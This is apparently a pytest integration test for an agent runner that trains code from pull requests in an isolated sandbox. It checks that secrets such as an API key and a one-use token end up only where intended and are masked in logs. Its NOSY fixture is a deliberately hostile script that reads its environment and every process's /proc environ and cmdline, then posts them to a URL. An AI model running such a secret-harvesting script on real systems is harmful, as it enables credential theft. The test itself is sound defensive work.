"""A run from the comment to the report, after which no secret is anywhere but where it has to be."""

import json
import re
from collections.abc import Iterator

import pytest

from runners.agent.agent_folder import Home
from runners.agent.isolation import bubblewrap
from tests.recovery.canaries import canaries, left, processes, seen
from tests.recovery.cloud_town import SECRETS, Skies, skies
from tests.recovery.pull import pull_request
from tests.recovery.test_kills import TRAINING, landed, run

pytestmark = [pytest.mark.xdist_group("aws"), pytest.mark.timeout(1200)]

# It tells all that it can see: its environment, and that of every process it finds; and prints what it was given.
NOSY = """import glob, json, os, urllib.request
seen = json.dumps(dict(os.environ)).encode()
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        seen += b"\\n" + open(path, "rb").read()
    except OSError:
        pass
urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open("{url}/training/began", seen, timeout=100).close()
print("the key is", os.environ["WANDB_API_KEY"], flush=True)
lr = float(open("params.yaml").read().split("lr:")[1])
json.dump({{"accuracy": 1 - lr}}, open("metrics.json", "w"))
"""


@pytest.fixture
def sky(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Skies]:
    assert bubblewrap.available(), f"these tests train in isolation: {bubblewrap.INSTALL}"
    with skies(tmp_path_factory.mktemp("town"), Home(tmp_path_factory.mktemp("agent")).root) as made:
        yield made


def test_no_secret_is_anywhere_but_where_it_has_to_be(sky: Skies) -> None:
    town = sky.town
    pull = pull_request(town, {"train.py": NOSY.format(url=town.door.url)})
    sky.booting.set()
    town.gate.let_go(TRAINING)
    pull.comment(run())
    town.gate.wait()
    running = dict(processes(sky))
    town.gate.let_go()
    landed(pull)
    known, places = canaries(sky), left(sky)
    assert len(running) == 2 and any(b"--home" in said for said in running.values())
    assert not seen(running, known)
    assert not seen(places, known)
    # What is good once stands in the user data, and nowhere else.
    (script,) = [said for where, said in places.items() if where.startswith("user data")]
    once = {"the one-use token": re.findall(rb'"boot": "([0-9a-f]{64})"', script)[0]}
    assert seen(places, once) == [f"the one-use token: {where}" for where in places if where.startswith("user data")]
    assert not seen(running, once)
    # It looked where something is.
    for where in ("a comment", "Git at GitHub", "log worker.log", "Redis ", f"{town.env['DATA_DIR']}/runs"):
        assert any(said for place, said in places.items() if place.startswith(where)), where
    assert b"accuracy" in places["a comment"] and b"accuracy" in places["Git at GitHub"]
    # Training has what runners.yml names for it.
    (told,) = town.told
    assert json.loads(told.splitlines()[0])["WANDB_API_KEY"] == SECRETS["WANDB_API_KEY"]
    assert seen({"training": told}, known) == ["WANDB_API_KEY: training"]
    assert not seen({"training": told}, once)
    assert any(b"the key is ***" in said for said in places.values()), "what it printed is kept without it"
